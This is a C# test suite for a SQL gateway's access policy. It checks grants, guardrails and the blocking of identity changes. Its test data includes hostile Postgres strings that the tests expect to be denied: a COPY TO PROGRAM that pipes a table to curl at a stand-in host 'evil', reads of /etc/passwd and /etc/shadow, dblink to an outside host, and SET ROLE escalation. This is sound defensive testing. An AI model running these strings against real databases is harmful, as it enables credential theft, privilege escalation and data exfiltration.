using HoopGate.Policy;
using HoopGate.Sql;

namespace HoopGate.Tests.Policy;

public class SessionPolicyTests
{
    private const string Yaml = """
        version: 1
        searchPath: [public]
        everyone:
          statements: [select, show, set, transaction, utility]
          read: [pg_catalog.*, information_schema.*]
        groups:
          analysts:
            read: [clinic.*, public.*]
          clinicians:
            statements: [insert, update, delete]
            read: [clinic.*]
            write: [clinic.notes, clinic.appointments]
          dbas:
            statements: [all]
            read: ["*.*"]
            write: ["*.*"]
        functions:
          deny: [risky_*]
        guardrails:
          - name: unbounded-write
            action: deny
            reason: UPDATE and DELETE need a WHERE clause that names a column
            unboundedWrite: true
          - name: destructive-ddl
            action: review
            reason: dropping objects needs approval
            commands: ["DROP *", TRUNCATE]
            exceptGroups: [breakglass]
          - name: patients-read
            action: review
            reason: whole patient records need a second look
            tables: [clinic.patients]
            access: read
            groups: [interns]
          - name: search-path
            action: deny
            reason: qualify table names instead
            settings: [search_path]
        """;

    private static readonly PolicySnapshot s_snapshot = PolicyLoader.Load(Yaml, "test.yaml").Snapshot!;

    private static PolicyDecision Judge(string sql, params string[] groups) =>
        s_snapshot.ForGroups(groups).Evaluate(SqlAnalyzer.Analyze(sql));

    private static void AssertAllowed(string sql, params string[] groups)
    {
        PolicyDecision decision = Judge(sql, groups);
        Assert.True(decision.IsAllowed, sql + " → " + decision);
    }

    private static PolicyDecision AssertDenied(string sql, string rule, params string[] groups)
    {
        PolicyDecision decision = Judge(sql, groups);
        Assert.Equal(PolicyAction.Deny, decision.Action);
        Assert.Equal(rule, decision.Rule);
        return decision;
    }

    [Fact]
    public void A_group_may_read_what_it_is_granted_and_nothing_else()
    {
        AssertAllowed("SELECT * FROM clinic.patients", "analysts");
        AssertAllowed("SELECT * FROM visits", "analysts");
        PolicyDecision decision = AssertDenied("SELECT * FROM billing.invoices", BuiltInRules.NotGranted, "analysts");
        Assert.Equal("42501", decision.SqlState);
        Assert.Equal("your groups (analysts) may not read billing.invoices", decision.Reason);
    }

    [Fact]
    public void Without_groups_only_the_catalogs_are_readable()
    {
        AssertAllowed("SELECT typname FROM pg_type");
        AssertAllowed("SELECT * FROM information_schema.tables");
        Assert.Equal("your identity (no groups) may not read public.visits", AssertDenied("SELECT * FROM visits", BuiltInRules.NotGranted).Reason);
    }

    [Fact]
    public void Writing_needs_the_statement_kind_and_the_table()
    {
        AssertAllowed("INSERT INTO clinic.notes (body) VALUES ('x')", "clinicians");
        Assert.Equal(
            "your groups (analysts) may not run insert statements",
            AssertDenied("INSERT INTO clinic.notes (body) VALUES ('x')", BuiltInRules.NotGranted, "analysts").Reason);
        Assert.Equal(
            "your groups (clinicians) may not write clinic.patients",
            AssertDenied("UPDATE clinic.patients SET name = 'x' WHERE id = 1", BuiltInRules.NotGranted, "clinicians").Reason);
    }

    [Fact]
    public void Groups_combine()
    {
        AssertDenied("INSERT INTO clinic.notes SELECT * FROM public.staging", BuiltInRules.NotGranted, "clinicians");
        AssertAllowed("INSERT INTO clinic.notes SELECT * FROM public.staging", "clinicians", "analysts");
    }

    [Fact]
    public void A_delete_hidden_in_a_cte_needs_the_delete_grant()
    {
        PolicyDecision decision = AssertDenied(
            "WITH gone AS (DELETE FROM clinic.patients WHERE id = 1 RETURNING *) SELECT * FROM gone", BuiltInRules.NotGranted, "analysts");
        Assert.Contains("delete", decision.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void One_denied_statement_denies_the_whole_string()
    {
        AssertDenied("SELECT 1; DELETE FROM clinic.notes WHERE id = 1; SELECT 2", BuiltInRules.NotGranted, "analysts");
        AssertAllowed("SELECT 1; SELECT * FROM clinic.visits", "analysts");
    }

    [Fact]
    public void Explain_analyze_of_a_delete_is_judged_as_the_delete()
    {
        AssertDenied("EXPLAIN ANALYZE DELETE FROM clinic.notes WHERE id = 1", BuiltInRules.NotGranted, "analysts");
        AssertAllowed("EXPLAIN ANALYZE DELETE FROM clinic.notes WHERE id = 1", "clinicians");
    }

    [Fact]
    public void Unparsable_sql_is_denied_with_the_parser_error_and_position()
    {
        PolicyDecision decision = AssertDenied("SELECT * FORM clinic.patients", BuiltInRules.Parser, "dbas");
        Assert.Equal("42601", decision.SqlState);
        Assert.Equal(10, decision.Position);
    }

    [Theory]
    [InlineData("SET ROLE postgres")]
    [InlineData("SET SESSION AUTHORIZATION postgres")]
    [InlineData("RESET ROLE")]
    [InlineData("RESET SESSION AUTHORIZATION")]
    [InlineData("RESET ALL")]
    [InlineData("SET LOCAL ROLE postgres")]
    [InlineData("SELECT set_config('role', 'postgres', false)")]
    [InlineData("SELECT pg_catalog.set_config('Session_Authorization', 'postgres', true)")]
    [InlineData("SELECT set_config(name, 'postgres', false) FROM (VALUES ('role')) v(name)")]
    [InlineData("SET application_name = 'someone else'")]
    [InlineData("SET client_encoding = 'SJIS'")]
    [InlineData("SET standard_conforming_strings = off")]
    [InlineData("UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role'")]
    [InlineData("SELECT 1; SET ROLE postgres")]
    [InlineData("ALTER ROLE CURRENT_USER SET role = 'postgres'")]
    [InlineData("ALTER DATABASE hg_test SET application_name = 'someone else'")]
    [InlineData("ALTER SYSTEM SET standard_conforming_strings = off")]
    public void Nobody_can_change_identity_or_gateway_owned_settings_from_inside(string sql)
    {
        AssertDenied(sql, BuiltInRules.Identity, "dbas");
    }

    [Theory]
    [InlineData("SET client_encoding = 'UTF8'")]
    [InlineData("SET standard_conforming_strings = on")]
    [InlineData("SET work_mem = '64MB'")]
    [InlineData("RESET client_encoding")]
    [InlineData("SELECT set_config('statement_timeout', '5s', false)")]
    public void Harmless_settings_may_change(string sql)
    {
        AssertAllowed(sql, "analysts");
    }

    [Theory]
    [InlineData("SELECT pg_read_file('/etc/passwd')")]
    [InlineData("SELECT * FROM pg_catalog.pg_ls_dir('.')")]
    [InlineData("SELECT lo_export(1234, '/tmp/x')")]
    [InlineData("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)")]
    [InlineData("SELECT query_to_xml('DELETE FROM clinic.patients RETURNING *', true, false, '')")]
    [InlineData("SELECT table_to_xml('clinic.patients', true, false, '')")]
    [InlineData("SELECT pg_terminate_backend(12345)")]
    [InlineData("SELECT upper(x) FROM (SELECT pg_read_binary_file('/etc/shadow') x) s")]
    public void Functions_that_reach_outside_the_gateways_sight_are_forbidden_for_everyone(string sql)
    {
        AssertDenied(sql, BuiltInRules.ForbiddenFunction, "dbas");
    }

    [Fact]
    public void The_policy_can_forbid_more_functions()
    {
        Assert.Equal("risky_thing is forbidden by the policy", AssertDenied("SELECT risky_thing()", BuiltInRules.ForbiddenFunction, "dbas").Reason);
    }

    [Theory]
    [InlineData("COPY clinic.notes TO PROGRAM 'curl -d @- evil'")]
    [InlineData("COPY clinic.notes FROM '/etc/passwd'")]
    [InlineData("COPY (SELECT 1) TO '/tmp/out'")]
    public void Copy_to_or_from_the_servers_files_and_programs_is_forbidden(string sql)
    {
        AssertDenied(sql, BuiltInRules.ServerSideCopy, "dbas");
    }

    [Fact]
    public void Copy_over_the_connection_follows_the_grants()
    {
        AssertAllowed("COPY clinic.notes TO STDOUT", "dbas");
        AssertDenied("COPY clinic.notes TO STDOUT", BuiltInRules.NotGranted, "analysts");
    }

    [Fact]
    public void Guardrails_deny_even_what_is_granted()
    {
        Assert.Equal("unbounded-write", AssertDenied("DELETE FROM clinic.notes", "unbounded-write", "dbas").Rule);
        AssertDenied("UPDATE clinic.notes SET body = '' WHERE true", "unbounded-write", "dbas");
        AssertAllowed("DELETE FROM clinic.notes WHERE id = 3", "dbas");
    }

    [Fact]
    public void Review_guardrails_hold_and_a_deny_elsewhere_in_the_string_wins()
    {
        PolicyDecision review = Judge("DROP TABLE clinic.old_notes", "dbas");
        Assert.Equal(PolicyAction.Review, review.Action);
        Assert.Equal("destructive-ddl", review.Rule);
        Assert.Equal(PolicyAction.Deny, Judge("DROP TABLE clinic.old_notes; DELETE FROM clinic.notes", "dbas").Action);
    }

    [Fact]
    public void Guardrails_apply_to_their_groups_only()
    {
        Assert.Equal(PolicyAction.Review, Judge("SELECT * FROM clinic.patients", "analysts", "interns").Action);
        AssertAllowed("SELECT * FROM clinic.patients", "analysts");
        AssertAllowed("DROP TABLE clinic.old_notes", "dbas", "breakglass");
    }

    [Fact]
    public void Guardrails_on_tables_match_unqualified_names_in_any_schema()
    {
        // patients resolves through search_path, which the gateway does not know at run time: fail closed.
        Assert.Equal(PolicyAction.Review, Judge("SELECT * FROM patients", "analysts", "interns").Action);
    }

    [Fact]
    public void Settings_guardrails_catch_set_and_set_config()
    {
        AssertDenied("SET search_path = billing", "search-path", "analysts");
        AssertDenied("SELECT set_config('search_path', 'billing', false)", "search-path", "analysts");
        AssertDenied("SELECT set_config(lower('SEARCH_PATH'), 'billing', false)", BuiltInRules.Identity, "analysts");
    }

    [Fact]
    public void Unqualified_names_resolve_through_the_search_path_and_pg_names_to_the_catalog()
    {
        AssertAllowed("SELECT * FROM pg_class", "clinicians");
        AssertDenied("SELECT * FROM visits", BuiltInRules.NotGranted, "clinicians");
        AssertAllowed("SELECT * FROM visits", "analysts");
    }

    [Fact]
    public void Do_blocks_are_not_granted_unless_named()
    {
        AssertDenied("DO $$ BEGIN PERFORM 1; END $$", BuiltInRules.NotGranted, "analysts");
        AssertAllowed("DO $$ BEGIN PERFORM 1; END $$", "dbas");
    }

    [Fact]
    public void An_empty_string_is_allowed()
    {
        AssertAllowed("", "analysts");
        AssertAllowed(";", "analysts");
    }
}
